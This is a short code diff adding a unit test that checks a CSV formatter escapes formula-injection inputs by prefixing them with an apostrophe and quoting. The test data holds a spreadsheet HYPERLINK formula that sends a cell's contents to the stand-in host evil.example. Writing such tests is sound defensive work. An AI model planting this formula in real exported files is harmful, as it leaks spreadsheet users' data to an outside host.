@@ -22,3 +22,10 @@ describe('formatCsv', () => {
     expect(formatCsv([['a', 'b'], ['1', '']])).toBe('a,b\r\n1,\r\n');
   });
 });
+
+describe('formatCsv against formula injection', () => {
+  it('writes an approved name that is a formula as text, quoted where it holds a comma', () => {
+    const csv = formatCsv([['name'], ['=HYPERLINK("http://evil.example/?"&A2,"x")'], ['@SUM(A1:A2)']]);
+    expect(csv).toBe(`name\r\n"'=HYPERLINK(""http://evil.example/?""&A2,""x"")"\r\n'@SUM(A1:A2)\r\n`);
+  });
+});
